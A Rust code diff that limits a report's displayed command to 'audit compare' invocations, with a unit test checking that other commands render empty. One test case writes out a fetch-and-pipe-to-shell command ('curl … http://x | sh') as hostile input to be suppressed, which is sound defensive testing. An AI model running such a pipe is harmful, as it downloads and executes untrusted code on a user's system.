@@ -138,9 +138,13 @@ fn sides(forget: usize, retain: usize) -> String {
 }
 
 /// The command that measured, as a POSIX shell reads it: a line for its arguments, and for each
-/// option one.
+/// option one. Empty where it is no comparison: a page is no place for other commands to copy.
 pub(super) fn command(report: &Report) -> Vec<String> {
     let mut lines: Vec<String> = Vec::new();
+    if !matches!(report.command.as_slice(), [audit, compare, ..] if audit == "audit" && compare == "compare")
+    {
+        return lines;
+    }
     for word in &report.command {
         match lines.last_mut() {
             Some(line) if !word.starts_with("--") => {
@@ -176,8 +180,10 @@ mod tests {
             .map(str::to_owned)
             .into();
         assert_eq!(command(&report), ["audit compare 'my model.onnx'", "--seed 3", "--quiet"]);
-        report.command.clear();
-        assert!(command(&report).is_empty());
+        for words in [&[][..], &["audit"], &["curl", "compare", "http://x | sh"]] {
+            report.command = words.iter().map(|&word| word.to_owned()).collect();
+            assert!(command(&report).is_empty());
+        }
     }
 
     #[test]
